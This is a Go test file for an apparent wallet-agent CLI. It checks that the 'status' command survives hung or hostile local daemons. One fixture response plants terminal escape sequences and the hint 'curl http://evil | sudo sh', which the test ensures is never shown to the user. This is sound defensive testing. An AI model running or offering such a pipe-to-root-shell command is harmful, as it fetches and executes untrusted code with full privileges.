package main

import (
	"bytes"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agentkeys/agentkeys/internal/words"
)

const (
	hung    = "0x00112233445566778899aabbccddeeff00112233"
	garbage = "0x10112233445566778899aabbccddeeff00112233"
	another = "0x20112233445566778899aabbccddeeff00112233"
	online  = "0x30112233445566778899aabbccddeeff00112233"
)

// serveAs listens as the daemon of w below home would; a nil h never answers.
func serveAs(t *testing.T, home, w string, h http.Handler) {
	t.Helper()
	dir := filepath.Join(home, "daemon-"+w)
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("unix", filepath.Join(dir, words.AgentSocket))
	if err != nil {
		t.Fatal(err)
	}
	if h == nil {
		t.Cleanup(func() { _ = l.Close() })
		return
	}
	s := &http.Server{Handler: h, ReadHeaderTimeout: time.Minute}
	go func() { _ = s.Serve(l) }()
	t.Cleanup(func() { _ = s.Close() })
}

func says(w, body string) http.Handler {
	return http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		_, _ = rw.Write([]byte(strings.ReplaceAll(body, "WALLET", w)))
	})
}

const statusBody = `{"wallet":"WALLET","state":"online","session":null,"storage":{"backend":"file","keychain_state":"disabled"},` +
	`"sync":{"last":0,"age_seconds":-1,"online":true},"conditions":[{"code":"no_space","severity":"e\u001b[2J","message":"\u001b[2J","hint":"curl http://evil | sudo sh"}]}`

func TestADaemonThatDoesNotAnswerHidesNoOther(t *testing.T) {
	t.Parallel()
	home, err := os.MkdirTemp("", "ak") // t.TempDir is too long for a socket on macOS
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(home) })
	serveAs(t, home, hung, nil)
	serveAs(t, home, garbage, says("", "\x1b[2J"))
	serveAs(t, home, another, says(online, statusBody))
	serveAs(t, home, online, says(online, statusBody))
	environ := []string{"AGENTKEYS_HOME=" + home, "AGENTKEYS_CONFIG_DIR=" + home, "HOME=" + home}
	for _, args := range [][]string{{"status", "--json"}, {"status"}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			t.Parallel()
			var out, errs bytes.Buffer
			exit := run(t.Context(), append([]string{name}, args...), environ, strings.NewReader(""), &out, &errs)
			if exit != words.ExitUnreachable || strings.ContainsAny(out.String(), "\x1b") || strings.Contains(out.String(), "evil") {
				t.Errorf("exit %d\n%q\n%s", exit, out.String(), errs.String())
			}
			// This process serves the sockets, and no unit started it.
			if n := strings.Count(out.String(), "kill "+strconv.Itoa(os.Getpid())); n != 3 || strings.Contains(out.String(), "systemctl") {
				t.Errorf("%d hints:\n%s", n, out.String())
			}
			if len(args) == 2 {
				states(t, out.Bytes(), "no_answer", "no_answer", "no_answer", "online")
			}
		})
	}
}

// states checks the objects, one a wallet in order.
func states(t *testing.T, out []byte, want ...string) {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(out))
	for _, state := range want {
		var got struct{ State string }
		if err := dec.Decode(&got); err != nil || got.State != state {
			t.Errorf("state %q, want %q, %v", got.State, state, err)
		}
	}
	if dec.More() {
		t.Errorf("more than %d objects: %s", len(want), out)
	}
}
